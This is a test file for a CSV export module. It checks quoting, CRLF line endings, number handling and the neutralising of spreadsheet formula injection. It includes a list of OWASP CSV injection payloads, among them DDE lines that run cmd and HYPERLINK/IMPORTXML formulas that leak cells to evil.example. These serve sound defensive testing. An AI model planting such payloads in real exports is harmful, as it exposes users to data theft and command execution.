import fc from 'fast-check'
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { csvCell, csvDocument, csvLine, neutraliseFormula, UTF8_BOM } from './csv'

const FORMULA_CHARS = ['=', '+', '-', '@', '\t', '\r']

function parse(text: string): string[][] {
  expect(text.startsWith(UTF8_BOM)).toBe(true)
  const result = Papa.parse<string[]>(text.slice(1), { newline: '\r\n', delimiter: ',' })
  expect(result.errors).toEqual([])
  return result.data
}

// OWASP's CSV injection examples and a few well-known variants.
const OWASP_PAYLOADS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '+1+1',
  '-1+1',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
  "-2+3+cmd|' /C calc'!E2",
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
]

describe('CSV writer', () => {
  it('gives back every cell when parsed: formula-leading text with one quote in front, everything else unchanged', () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 6 }), { minLength: 1, maxLength: 8 }), (rows) => {
        const width = Math.max(...rows.map((row) => row.length))
        const square = rows.map((row) => Array.from({ length: width }, (_, i) => row[i] ?? ''))
        const header = Array.from({ length: width }, (_, i) => `Column ${i + 1}`)
        const parsed = parse(csvDocument(header, square))
        // papaparse reads a trailing CRLF as one more empty record.
        expect(parsed.at(-1)).toEqual([''])
        const records = parsed.slice(1, -1)
        expect(records).toEqual(square.map((row) => row.map((cell) => (FORMULA_CHARS.some((c) => cell.startsWith(c)) ? `'${cell}` : cell))))
        for (const record of records) for (const cell of record) expect(FORMULA_CHARS.some((c) => cell.startsWith(c))).toBe(false)
      }),
      { numRuns: 200 },
    )
  }, 60_000)

  it('neutralises every OWASP payload', () => {
    const parsed = parse(csvDocument(['Payload'], OWASP_PAYLOADS.map((payload) => [payload])))
    expect(parsed.slice(1, -1).map((row) => row[0])).toEqual(OWASP_PAYLOADS.map((payload) => `'${payload}`))
  })

  it('quotes only what needs it and ends records with CRLF', () => {
    expect(csvLine(['plain', 'a,b', 'say "hi"', 'two\nlines', 'ünïcødé'])).toBe('plain,"a,b","say ""hi""","two\nlines",ünïcødé\r\n')
    expect(csvLine(['', null, undefined])).toBe(',,\r\n')
  })

  it('writes numbers as numbers, negative ones included, and leaves undefined figures empty', () => {
    expect(csvCell(-12.5)).toBe('-12.5')
    expect(csvCell(1234)).toBe('1234')
    expect(csvCell(Number.NaN)).toBe('')
    expect(csvCell(Number.POSITIVE_INFINITY)).toBe('')
    expect(csvCell('-12.5')).toBe("'-12.5")
  })

  it('leaves text that merely contains a formula character alone', () => {
    expect(neutraliseFormula('a=b')).toBe('a=b')
    expect(neutraliseFormula('ab@c.com')).toBe('ab@c.com')
    expect(neutraliseFormula(' =1')).toBe(' =1')
  })
})
